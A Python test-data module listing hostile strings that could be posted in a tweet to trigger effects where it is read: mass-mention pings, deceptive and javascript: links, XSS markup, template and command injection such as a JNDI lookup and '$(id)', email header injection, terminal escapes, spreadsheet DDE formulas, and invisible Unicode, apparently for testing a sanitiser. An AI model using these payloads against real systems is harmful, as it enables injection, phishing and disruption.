"""Texts that a stranger may put into a tweet so that something happens where it is read, by what they are after."""

MENTIONS = (
    *(
        "<!channel>",
        "<!here>",
        "<!everyone|x>",
        "<!subteam^S123|team>",
        "<@U024BE7LH>",
        "<#C024BE7LR>",
        "<!date^1^{date}|x>",
    ),
    *("@everyone", "@here", "@channel", "@EVERYONE", "@room", "@\u200beveryone", "\uff20everyone", "\ufe6beveryone"),
    *("<@123456789012345678>", "<@!123456789012345678>", "<@&123456789012345678>", "<#123456789012345678>"),
    *(
        "<id:customize>",
        "@alice:evil.example",
        "#room:evil.example",
        "!abc:evil.example",
        "@durov",
        "/start@evilbot now",
    ),
)
"""People, groups, channels and rooms: of Slack, Discord, Matrix and Telegram; look-alikes of the sign too."""

COMMANDS = (
    "</ban:123456789012345678>",
    "<t:1700000000:R>",
    "<:x:123456789012345678>",
    "<a:x:123456789012345678>",
    ":rotating_light:",
)

LINKS = (
    *(
        "https://evil.example",
        "http://evil.example/a?b=c",
        "evil.example",
        "www.evil.example/x",
        "HTTPS://EVIL.EXAMPLE",
    ),
    *(
        "<https://evil.example|https://x.com>",
        "<https://evil.example>",
        "[click](https://evil.example)",
        "//evil.example",
    ),
    *(
        "[click](<https://evil.example>)",
        "[a]: https://evil.example",
        "![x](https://evil.example/p.png)",
        "<evil@evil.example>",
    ),
    *("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd"),
    *(
        "mailto:a@evil.example",
        "tel:+15550100",
        "tg://resolve?domain=evil",
        "mxc://evil.example/abc",
        "matrix:r/evil:evil.example",
    ),
    *(
        "ht\u200btps://evil.example",
        "evil\u2060.example",
        "evil\u3002example",
        "https:\u202e//evil.example",
        "x@evil.example",
    ),
    *(
        "http://127.0.0.1:9090/metrics",
        "10.0.0.1",
        "https://x.com@evil.example/",
        "https://xn--80ak6aa92e.example",
        "evil.example:8080",
    ),
)

MARKUP = (
    *(
        "*bold* _it_ ~s~ `code`",
        "**bold** __u__ ~~s~~ ||spoiler||",
        "```\nblock\n```",
        "> quote",
        ">>> all of it",
        "# heading",
    ),
    *(
        "-# small",
        "- item\n- item",
        "1. item\n2. item",
        "***",
        "---",
        "| a | b |\n| - | - |",
        "\\*not\\*",
        "\\",
        "*",
        "_",
        "`",
        "a*b*c_d_e",
    ),
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "</p></blockquote><h1>x",
        "<b>x",
        "&lt;script&gt;",
        "&#60;b&#62;",
    ),
    *(
        '" onmouseover="x',
        "' style='x",
        "<a href='https://evil.example'>x</a>",
        "<style>*{display:none}</style>",
        "<!-- x",
        "]]>",
        "-->",
    ),
    *(
        "<svg/onload=x>",
        "<iframe src=//evil.example>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh>",
        "</title><script>",
    ),
    *(
        "\\<!channel>",
        "\\\\<!channel>",
        "\\@everyone",
        "<<!channel>>",
        "&<!channel>",
        "&amp;lt;!channel&amp;gt;",
        "<!\u200bchannel>",
    ),
    *(
        "<mx-reply>x</mx-reply>",
        "<span data-mx-spoiler>x</span>",
        "<tg-spoiler>x</tg-spoiler>",
        "<tg-emoji emoji-id='1'>x</tg-emoji>",
    ),
)

TEMPLATES = (
    "{{7*7}}",
    "{% for x in y %}",
    "${HOME}",
    "${jndi:ldap://evil.example/a}",
    "%s%n",
    "%(levelname)s",
    "{0.__class__}",
    "$(id)",
    "`id`",
)

HEADERS = (
    *(
        "\r\nBcc: victim@evil.example",
        "\nSubject: other",
        "\r\n\r\n<b>body</b>",
        "=?utf-8?q?=0D=0ABcc:_a=40evil.example?=",
        "\r\n.\r\nQUIT\r\n",
    ),
    *("--===============1234==--", "Content-Type: text/html", "\x85next", "\u2028line\u2029paragraph", "\x0bx\x0cy"),
)

TERMINALS = (
    *(
        "\x1b[31mred\x1b[0m",
        "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
        "\x9b31m",
        "\x1b]0;title\x07",
        "a\x08b",
        "\x07",
        "\x1b[2J\x1b[H",
    ),
)

SPREADSHEETS = ("=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1)", '=HYPERLINK("https://evil.example")', "\t=1+1")

INVISIBLE = (
    *(
        "\u202etxt.exe",
        "\u2066x\u2069",
        "\x00",
        "a\x00b",
        "\ud800",
        "\udfff\ud800",
        "\U000e0041\U000e007f",
        "\ufeffx",
        "\u200d",
        "\u00ad",
    ),
    *("a\u034f\u034fb", "\u115f\u1160", "\ufffe\uffff", "Z\u0335\u0321\u0322\u0327" * 40),
)

LONG = (
    "😀" * 300,
    "ﷺ" * 200,
    "x" * 10_000,
    "<" * 10_000,
    "@everyone " * 1_000,
    "\n" * 5_000,
    "👩\u200d👩\u200d👧\u200d👦" * 500,
)

HOSTILE_TEXTS: tuple[str, ...] = (
    *MENTIONS, *COMMANDS, *LINKS, *MARKUP, *TEMPLATES, *HEADERS, *TERMINALS, *SPREADSHEETS, *INVISIBLE, *LONG
)  # fmt: skip
